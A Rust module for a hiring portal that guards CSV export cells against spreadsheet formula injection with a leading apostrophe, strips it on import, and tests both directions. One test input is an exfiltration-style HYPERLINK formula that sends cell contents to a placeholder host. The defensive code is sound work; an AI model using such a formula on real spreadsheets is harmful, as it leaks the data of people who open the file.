//! Cells of the CSV files the portal writes, made safe to open in a spreadsheet, and read back.
//!
//! A cell starting with `=`, `+`, `-`, `@`, a tab or a carriage return is taken for a formula
//! by Excel and LibreOffice, so an applicant's name such as `=HYPERLINK(…)` would run on HR's
//! computer. As OWASP recommends, such a cell is written with a leading apostrophe, which the
//! spreadsheet shows as text. One exception, by choice: a plain signed number (`-1.5`, `+3`,
//! `-1,5`) is left as it is, since it cannot hold a formula and a spreadsheet should still add
//! it up. Anything else after the sign (`-1+2`, `-inf`, `-2e3`) gets the apostrophe.
//! XLSX exports need nothing: rust_xlsxwriter writes text cells as strings, never formulas.

use std::borrow::Cow;

fn starts_like_a_formula(text: &str) -> bool {
    text.starts_with(['=', '+', '-', '@', '\t', '\r'])
}

/// A sign, digits, and at most one decimal point or comma followed by more digits.
fn plain_signed_number(text: &str) -> bool {
    let Some(rest) = text.strip_prefix(['-', '+']) else {
        return false;
    };
    let (whole, fraction) = match rest.split_once(['.', ',']) {
        Some((whole, fraction)) => (whole, Some(fraction)),
        None => (rest, None),
    };
    let digits = |s: &str| !s.is_empty() && s.bytes().all(|b| b.is_ascii_digit());
    digits(whole) && fraction.is_none_or(digits)
}

/// Whether a cell is written with an apostrophe: it would be read as a formula, or it already
/// starts with an apostrophe before such a cell (so that reading back removes only ours).
fn needs_guard(text: &str) -> bool {
    (starts_like_a_formula(text) && !plain_signed_number(text))
        || text.strip_prefix('\'').is_some_and(needs_guard)
}

/// The text to write in one CSV cell: an apostrophe first when a spreadsheet would otherwise
/// read the cell as a formula.
pub fn csv_cell(text: &str) -> Cow<'_, str> {
    if needs_guard(text) {
        Cow::Owned(format!("'{text}"))
    } else {
        Cow::Borrowed(text)
    }
}

/// The inverse of [`csv_cell`], for a CSV the portal reads: the apostrophe goes only where
/// `csv_cell` would have put it, so an export imports back to the same values.
pub fn csv_cell_read(text: &str) -> &str {
    match text.strip_prefix('\'') {
        Some(rest) if needs_guard(rest) => rest,
        _ => text,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    #[test]
    fn formulas_get_an_apostrophe_and_numbers_do_not() {
        let name = r#"=HYPERLINK("http://x/?"&B2&C2,"Xem")"#;
        assert_eq!(csv_cell(name), format!("'{name}"));
        for text in [
            "+1+1", "-1+2", "@SUM(A1)", "\tx", "\rx", "-", "-inf", "-2e3", "-1.", "=1",
        ] {
            assert!(csv_cell(text).starts_with('\''), "{text:?}");
        }
        assert_eq!(csv_cell("'=x"), "''=x");
        for text in ["-1.5", "+3", "-1,5", "Nguyễn Văn A", "", "1-2", "'x", "'-1"] {
            assert_eq!(csv_cell(text), text, "{text:?}");
        }
    }

    proptest! {
        #[test]
        fn what_is_written_reads_back(text in "['=+@\\-\t\r0-9.]{0,4}[ -~]{0,12}") {
            let written = csv_cell(&text);
            prop_assert_eq!(csv_cell_read(&written), text.as_str());
        }
    }
}
